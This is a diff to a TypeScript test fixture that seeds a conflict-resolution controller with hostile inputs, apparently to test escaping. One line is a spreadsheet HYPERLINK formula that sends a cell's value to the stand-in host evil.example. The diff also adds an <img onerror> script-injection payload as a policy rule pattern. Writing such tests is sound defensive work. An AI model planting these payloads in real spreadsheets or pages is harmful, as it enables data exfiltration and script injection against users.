@@ -12,7 +12,10 @@ export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
 /** A conflict on a page of markup, one on JSON whose keys are markup, and a history of such agents' names and notes. */
 export async function fillHostile(store: Store): Promise<void> {
   const entente = createController({ store });
-  const rules = [['**', { strategy: 'merge', engine: 'auto', otherwise: 'escalate' }]] as const;
+  const rules = [
+    ['<img src=x onerror=window.hit=2>/**', 'escalate'],
+    ['**', 'merge(auto)'],
+  ] as const;
   await entente.setPolicy({ rules }, { agent: 'ann', revision: 0 });
   const clash = async (resource: string, base: string, one: string, two: string, agent: string): Promise<void> => {
     const first = await entente.begin(resource, { agent });
